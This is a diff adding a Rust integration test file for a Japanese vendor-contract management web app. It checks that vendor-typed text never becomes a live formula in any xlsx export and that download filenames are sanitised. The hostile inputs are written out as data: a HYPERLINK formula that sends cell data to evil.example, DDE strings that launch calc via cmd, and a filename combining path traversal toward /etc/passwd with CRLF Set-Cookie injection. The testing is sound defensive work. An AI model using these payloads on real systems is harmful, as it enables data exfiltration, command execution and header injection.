@@ -1,0 +1,229 @@
+//! What vendors type cannot run in the workbooks staff download, and the names of downloaded files
+//! cannot break out of their header or their folder.
+
+mod common;
+
+use calamine::{Data, Reader};
+use common::NTA;
+use rocket::http::{Header, Status};
+use serde_json::json;
+use std::io::Cursor;
+
+/// Values that a spreadsheet would run as formulas (or DDE commands) if written as typed.
+const PAYLOADS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"開く\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+];
+
+fn sheet_with_notes(corporate_number: &str) -> Vec<u8> {
+    let mut workbook = rust_xlsxwriter::Workbook::new();
+    let sheet = workbook.add_worksheet();
+    sheet.write_string(0, 0, "事業者名").unwrap();
+    sheet.write_string(0, 1, PAYLOADS[0]).unwrap();
+    sheet.write_string(1, 0, "法人番号").unwrap();
+    sheet.write_string(1, 1, corporate_number).unwrap();
+    sheet.write_string(2, 0, "記入者").unwrap();
+    sheet.write_string(2, 1, PAYLOADS[1]).unwrap();
+    for (column, header) in ["項番", "確認項目", "回答", "備考"].iter().enumerate() {
+        sheet.write_string(4, column as u16, *header).unwrap();
+    }
+    for (index, item) in itaku::checklist::Definition::builtin()
+        .items
+        .iter()
+        .enumerate()
+    {
+        let row = 5 + index as u32;
+        sheet.write_string(row, 0, &item.id).unwrap();
+        sheet.write_string(row, 1, &item.requirement).unwrap();
+        sheet.write_string(row, 2, "はい").unwrap();
+        sheet
+            .write_string(row, 3, PAYLOADS[index % PAYLOADS.len()])
+            .unwrap();
+    }
+    workbook.save_to_buffer().unwrap()
+}
+
+/// Every formula in the workbook, and every text cell.
+fn formulas_and_texts(bytes: &[u8]) -> (Vec<String>, Vec<String>) {
+    let mut workbook = calamine::open_workbook_auto_from_rs(Cursor::new(bytes.to_vec())).unwrap();
+    let (mut formulas, mut texts) = (Vec::new(), Vec::new());
+    for name in workbook.sheet_names() {
+        let range = workbook.worksheet_formula(&name).unwrap();
+        formulas.extend(range.used_cells().map(|(_, _, f)| f.clone()));
+        let values = workbook.worksheet_range(&name).unwrap();
+        texts.extend(values.used_cells().filter_map(|(_, _, v)| match v {
+            Data::String(s) => Some(s.clone()),
+            _ => None,
+        }));
+    }
+    (formulas, texts)
+}
+
+#[rocket::async_test]
+async fn vendor_text_is_never_a_formula_in_any_export() {
+    let app = common::spawn().await;
+    let (status, department) = app
+        .send_json("POST", "/api/v1/departments", &json!({"name": PAYLOADS[4]}))
+        .await;
+    assert_eq!(status, Status::Created, "{department}");
+    let (status, vendor) = app
+        .send_json(
+            "POST",
+            "/api/v1/vendors",
+            &json!({"corporate_number": NTA, "name": PAYLOADS[0], "address": PAYLOADS[1],
+                    "contact_person": PAYLOADS[2], "phone": "03-1234-5678"}),
+        )
+        .await;
+    assert_eq!(status, Status::Created, "{vendor}");
+    let (status, contract) = app
+        .send_json(
+            "POST",
+            "/api/v1/contracts",
+            &json!({"contract_number": "=2+2", "title": PAYLOADS[3], "department_id": department["id"],
+                    "vendor_id": vendor["id"], "start_date": "2024-04-01", "end_date": "2025-03-31",
+                    "handles_personal_data": true, "notes": PAYLOADS[5]}),
+        )
+        .await;
+    assert_eq!(status, Status::Created, "{contract}");
+    let contract_id = contract["id"].as_i64().unwrap();
+    let response = app
+        .post_bytes(
+            &format!("/api/v1/contracts/{contract_id}/checklists"),
+            sheet_with_notes(NTA),
+        )
+        .await;
+    assert_eq!(response.status(), Status::Created);
+    let submitted: serde_json::Value =
+        serde_json::from_str(&response.into_string().await.unwrap()).unwrap();
+    let submission_id = submitted["submission_id"].as_i64().unwrap();
+    let (status, review) = app
+        .send_json(
+            "POST",
+            &format!("/api/v1/checklists/{submission_id}/review"),
+            &json!({"decision": "return", "comment": PAYLOADS[2]}),
+        )
+        .await;
+    assert_eq!(status, Status::Ok, "{review}");
+    let (status, tender) = app
+        .send_json(
+            "POST",
+            "/api/v1/tenders",
+            &json!({"title": PAYLOADS[0], "department_id": department["id"], "evaluation_date": "2026-04-01"}),
+        )
+        .await;
+    assert_eq!(status, Status::Created, "{tender}");
+    let (status, bidder) = app
+        .send_json(
+            "POST",
+            &format!("/api/v1/tenders/{}/bidders", tender["id"]),
+            &json!({"corporate_number": NTA}),
+        )
+        .await;
+    assert_eq!(status, Status::Created, "{bidder}");
+
+    let exports = [
+        format!("/checklists/{submission_id}/export.xlsx"),
+        "/checklists/matrix.xlsx".to_string(),
+        "/reports/retention.xlsx".to_string(),
+        "/reports/all.xlsx".to_string(),
+        "/audit/export.xlsx".to_string(),
+        format!("/tenders/{}/evaluation.xlsx", tender["id"]),
+        format!("/contracts/{contract_id}/checklist-template.xlsx"),
+    ];
+    for path in &exports {
+        let response = app.client.get(path.as_str()).dispatch().await;
+        assert_eq!(response.status(), Status::Ok, "{path}");
+        let bytes = response.into_bytes().await.unwrap();
+        let (formulas, texts) = formulas_and_texts(&bytes);
+        let user_formulas: Vec<&String> = formulas
+            .iter()
+            .filter(|f| PAYLOADS.iter().any(|p| p.contains(f.as_str())) || f.contains("cmd"))
+            .collect();
+        assert!(
+            user_formulas.is_empty(),
+            "{path}: typed text became formulas: {user_formulas:?}"
+        );
+        let shown: Vec<&&str> = PAYLOADS
+            .iter()
+            .filter(|p| texts.iter().any(|t| t.contains(**p)))
+            .collect();
+        assert!(
+            !shown.is_empty() || path.contains("template"),
+            "{path}: the typed text is not in the workbook as text"
+        );
+        eprintln!(
+            "{path}: {} formulas of its own, typed text kept as text: {shown:?}",
+            formulas.len()
+        );
+    }
+}
+
+#[rocket::async_test]
+async fn download_names_cannot_traverse_or_inject_headers() {
+    let app = common::spawn().await;
+    let (_, vendor_id) = app
+        .seed_department_and_vendor("税務課", NTA, "株式会社A")
+        .await;
+    let (status, certification) = app
+        .send_json(
+            "POST",
+            &format!("/api/v1/vendors/{vendor_id}/certifications"),
+            &json!({"scheme": "isms", "number": "JQA-IM0685", "issued_on": "2025-04-01",
+                    "valid_until": "2028-03-31", "scope": "全社"}),
+        )
+        .await;
+    assert_eq!(status, Status::Created, "{certification}");
+    let hostile = "..%2F..%2Fetc%2Fpasswd%0D%0ASet-Cookie%3A%20evil%3D1%0D%0A%22%3B%20x%3D.pdf";
+    let response = app
+        .client
+        .put(format!(
+            "/api/v1/certifications/{}/file?file_name={hostile}",
+            certification["id"]
+        ))
+        .header(Header::new("X-CSRF-Token", app.csrf.clone()))
+        .body(common::PDF)
+        .dispatch()
+        .await;
+    assert_eq!(response.status(), Status::Ok);
+    let response = app
+        .client
+        .get(format!("/certifications/{}/file", certification["id"]))
+        .dispatch()
+        .await;
+    assert_eq!(response.status(), Status::Ok);
+    assert!(
+        response
+            .headers()
+            .get("Set-Cookie")
+            .all(|c| !c.contains("evil")),
+        "no header was injected"
+    );
+    let disposition = response
+        .headers()
+        .get_one("Content-Disposition")
+        .unwrap()
+        .to_string();
+    assert!(
+        !disposition.contains(['\r', '\n', '/', '\\']),
+        "{disposition}"
+    );
+    let ascii = disposition
+        .split("filename=\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .unwrap();
+    assert!(
+        ascii
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')),
+        "{disposition}"
+    );
+    assert!(
+        ascii.ends_with(".pdf") && !ascii.starts_with('.'),
+        "{ascii}"
+    );
+}
